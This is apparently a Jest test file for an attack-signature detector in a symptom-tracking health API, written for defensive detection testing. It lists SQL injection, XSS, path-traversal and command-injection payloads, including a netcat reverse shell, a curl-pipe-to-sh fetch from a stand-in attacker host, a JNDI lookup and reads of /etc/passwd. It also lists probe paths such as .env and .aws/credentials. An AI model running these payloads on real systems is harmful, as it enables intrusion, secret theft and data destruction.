import {
  decodedForms,
  isProbePath,
  logSample,
  matchSignature,
  SAMPLE_LENGTH,
} from './attack-signatures';

const ruleOf = (value: string, kind: 'structured' | 'free-text' = 'structured') =>
  matchSignature(value, kind)?.rule;

describe('attack signatures', () => {
  describe('SQL injection', () => {
    it.each([
      "' OR '1'='1",
      "' or 1=1 --",
      '" or ""="',
      "admin'--",
      "admin' #",
      "1'/*",
      "x') OR ('a'='a",
      '1 AND 4312=4312',
      '1) AND 5678=5678 AND (9=9',
      '1 or 2>1',
      '1; DROP TABLE symptom_log;--',
      "headache' UNION SELECT notes, notes FROM symptom_log--",
      '-1 UNION ALL SELECT NULL,NULL,NULL--',
      '1 UN/**/ION SEL/**/ECT 1',
      "1' AND (SELECT 1234 FROM PG_SLEEP(5))--",
      '1;SELECT PG_SLEEP(5)',
      "1' WAITFOR DELAY '0:0:5'--",
      '1 AND SLEEP(5)',
      '1 AND (SELECT * FROM information_schema.tables)',
      "1' AND CASE WHEN 1=1 THEN 1 ELSE 0 END--",
      '1 ORDER BY 10--',
      "'; exec xp_cmdshell 'dir'",
      'CHR(65)||CHR(66)',
      "x';",
      // URL-encoded, double-encoded, with + for spaces.
      '%27%20OR%20%271%27%3D%271',
      '%2527%2520OR%25201%253D1',
      '1+union+select+1,2',
    ])('matches %j', (payload) => {
      expect(ruleOf(payload)).toBe('sql-injection');
    });
  });

  describe('XSS', () => {
    it.each([
      '<script>alert(1)</script>',
      '<ScRiPt src=//evil.example/x.js>',
      '"><img src=x onerror=alert(1)>',
      '<svg/onload=alert(1)>',
      '<iframe src="https://evil.example">',
      '" onmouseover="alert(1)',
      'javascript:alert(document.cookie)',
      '<a href="javascript:void(0)">',
      '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      '&#x3c;img src=x onerror=prompt(1)&#x3e;',
      'data:text/html;base64,PHNjcmlwdD4=',
      'String.fromCharCode(88,83,83)',
    ])('matches %j', (payload) => {
      expect(ruleOf(payload)).toBe('xss');
    });
  });

  describe('path traversal', () => {
    it.each([
      '../../../../etc/passwd',
      '..\\..\\windows\\win.ini',
      '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      '%252e%252e%252fetc',
      '/api/health/../../etc/shadow',
      '....//....//etc/hosts',
      'file:///etc/passwd',
      'report.pdf%00.png',
      '%c0%ae%c0%ae/',
      'C:\\Windows\\System32\\drivers',
      '/proc/self/environ',
    ])('matches %j', (payload) => {
      expect(ruleOf(payload)).toBe('path-traversal');
    });
  });

  describe('command injection', () => {
    it.each([
      'x; cat /tmp/x',
      '1 && id',
      '| whoami',
      '127.0.0.1 || ping -c 1 evil.example',
      '$(id)',
      '`uname -a`',
      'a${IFS}b',
      '/bin/bash -i',
      'nc -e /bin/sh 10.0.0.1 4444',
      'curl https://evil.example/x.sh | sh',
      '${jndi:ldap://evil.example/a}',
    ])('matches %j', (payload) => {
      expect(ruleOf(payload)).toBe('command-injection');
    });
  });

  describe('free text (the chat and NLU `text`): plain English never matches', () => {
    it.each([
      "did I have pain after 'select' meetings?",
      'back pain < 3 days',
      "I'm not sure -- was it Tuesday or Wednesday?",
      "what's my worst headache since Monday?",
      "it's been a week; my head's still sore -- any pattern?",
      'show migraines or headaches > 5 in October',
      'did my nausea drop after I stopped the pills?',
      'select the days I had a migraine and nausea',
      'how often did I have migraine or nausea = bad days?',
      'union of headaches and back pain in november',
      'I took 2 ibuprofen; then slept; then woke up with pain -- why?',
      'pain rated 7/10 & dizzy, or 8/10 when standing',
      'was the pain <5 or >7 last week?',
      "my doctor's note says 'rest' -- how many rest days?",
      'from 1st to 3rd of may, headaches and/or dizziness?',
      "a 'sleep (8 hours)' kind of week: fewer headaches?",
      'id like to see my stats', // "id" after nothing
      'cat scratch fever; did it come back?',
      'any pain && nausea on the same day?',
      'drop in severity after the 5th? | compare to march',
      'what did I log on 12/10 at 3pm?',
      'headaches > 3 and < 8',
      'Ok. And 2=2 days later?',
    ])('does not match %j', (question) => {
      expect(matchSignature(question, 'free-text')).toBeUndefined();
    });

    it.each([
      ["' OR '1'='1", 'sql-injection'],
      ['x UNION SELECT password FROM users', 'sql-injection'],
      ['fine; DROP TABLE symptom_log', 'sql-injection'],
      ['<script>alert(1)</script>', 'xss'],
      ['"><img src=x onerror=alert(1)>', 'xss'],
      ['../../../../etc/passwd', 'path-traversal'],
      ['$(curl evil.example)', 'command-injection'],
      ['${jndi:ldap://x/a}', 'command-injection'],
    ])('still catches %j', (payload, rule) => {
      expect(ruleOf(payload, 'free-text')).toBe(rule);
    });
  });

  describe('structured values the API really takes never match', () => {
    it.each([
      'migraine',
      'lower back pain',
      "o'brien@example.com",
      'Europe/Berlin',
      'America/Argentina/Buenos_Aires',
      '2026-10-01',
      '2026-10-01T09:00:00+02:00',
      '-occurredAt',
      'occurredAt',
      '3f8c1f1e-2a76-4a39-9a6e-0c1d2e3f4a5b',
      'headache,nausea',
      'day',
      '100',
      "Anna's diary",
      'pain > 3',
      'nausea and vomiting',
      'migraine or headache',
      'aches & pains',
      'demo-password-123',
      '/api/health/symptoms/stats/count',
      '/api/conversations/3f8c1f1e-2a76-4a39-9a6e-0c1d2e3f4a5b/messages',
      '/docs/swagger-ui-bundle.js',
      '/.well-known/security.txt',
      '...',
      'a..b',
      'v1.2.3',
      'C# developer',
    ])('does not match %j', (value) => {
      expect(matchSignature(value, 'structured')).toBeUndefined();
    });
  });

  describe('samples for the log', () => {
    it('carry the matched text only, not the value around it', () => {
      const found = matchSignature("my private words ' OR '1'='1 more private words", 'structured');
      expect(found?.sample).toBe("' or '1'='1");
      expect(found?.sample).not.toContain('private');
    });

    it('are truncated and free of control and non-ASCII characters', () => {
      const found = matchSignature(`<script>${'x'.repeat(200)}`, 'structured');
      expect(found?.sample.length).toBeLessThanOrEqual(SAMPLE_LENGTH);
      expect(logSample('a\nb\u0000c\u00e9')).toBe('a?b?c?');
      expect(logSample('y'.repeat(100))).toHaveLength(SAMPLE_LENGTH);
      expect(logSample('y'.repeat(100)).endsWith('…')).toBe(true);
    });
  });

  it('answers a structured value seen again as the first time (remembered answers)', () => {
    const values = ["1' OR '1'='1", '../../etc/passwd', 'headache', '2026-02-01', '<script>'];
    const first = values.map((value) => matchSignature(value, 'structured'));
    // More distinct values than are remembered, so the first ones are forgotten and re-examined.
    for (let i = 0; i < 1500; i++) matchSignature(`value-${i}`, 'structured');
    for (let round = 0; round < 2; round++) {
      expect(values.map((value) => matchSignature(value, 'structured'))).toEqual(first);
    }
    expect(first.map((found) => found?.rule)).toEqual([
      'sql-injection',
      'path-traversal',
      undefined,
      undefined,
      'xss',
    ]);
    // Free text is judged by the weaker rules, whatever was remembered for the same string.
    expect(matchSignature("admin'--", 'free-text')).toBeUndefined();
    expect(matchSignature("admin'--", 'structured')).toBeDefined();
    expect(matchSignature("admin'--", 'free-text')).toBeUndefined();
  });

  it('decodes URL escapes once and twice, and HTML entities', () => {
    expect(decodedForms('%253C')).toEqual(['%253c', '%3c', '<']);
    expect(decodedForms('&lt;b')).toContain('<b');
    expect(decodedForms('%zz%41')).toContain('%zza');
  });

  it('looks at 4 KiB of a value at most', () => {
    expect(matchSignature(`${'a'.repeat(5000)}<script>`, 'structured')).toBeUndefined();
  });

  describe('probe paths', () => {
    it.each([
      '/.env',
      '/.env.production',
      '/api/.env',
      '/.git/config',
      '/.git/HEAD',
      '/wp-login.php',
      '/wp-admin/',
      '/wordpress/wp-admin/setup-config.php',
      '/xmlrpc.php',
      '/phpmyadmin/',
      '/phpMyAdmin/index.php',
      '/pma/',
      '/cgi-bin/luci',
      '/server-status',
      '/actuator/health',
      '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      '/index.php',
      '/backup.sql',
      '/.aws/credentials',
      '/.DS_Store',
      '/config.json',
      '/docker-compose.yml',
      '/%2eenv',
      '/HNAP1/',
      '/boaform/admin/formLogin',
    ])('%s is a probe', (path) => {
      expect(isProbePath(path)).toBe(true);
    });

    it.each([
      '/',
      '/api/health/symptoms',
      '/api/health/symptoms/stats/summary',
      '/api/auth/login',
      '/api/environment',
      '/api/admin/users',
      '/docs',
      '/docs/swagger-ui.css',
      '/docs-json',
      '/health/ready',
      '/metrics',
      '/.well-known/security.txt',
      '/favicon.ico',
      '/robots.txt',
      '/api/conversations/abc/messages',
    ])('%s is not a probe', (path) => {
      expect(isProbePath(path)).toBe(false);
    });
  });
});

describe('attack signatures against adversarial input (no catastrophic backtracking)', () => {
  const inputs = [
    `'${' '.repeat(4000)}`,
    `'${'\n'.repeat(4000)}`,
    "' \n".repeat(1300),
    `<a${' '.repeat(4000)}`,
    '<a'.repeat(2000),
    "'".repeat(4000),
    '"'.repeat(4000),
    "' or ".repeat(800),
    "' ) ".repeat(1000),
    "' ((".repeat(1000),
    '<a o'.repeat(1000),
    '<a href='.repeat(500),
    '../'.repeat(1300),
    '/*'.repeat(2000),
    '$('.repeat(2000),
    '`cat '.repeat(800),
    'case when '.repeat(400),
    '&#x'.repeat(1300),
    '%25'.repeat(1300),
    ' on'.repeat(1300),
  ];

  it.each(inputs.map((input) => [JSON.stringify(input.slice(0, 8)), input]))(
    '%s… (4 KiB) is decided quickly',
    (_, input) => {
      for (const kind of ['structured', 'free-text'] as const) {
        const started = process.hrtime.bigint();
        matchSignature(input, kind);
        isProbePath(`/${input}`);
        // Generous for a loaded CI machine; a catastrophic pattern takes seconds.
        expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(250);
      }
    },
  );
});
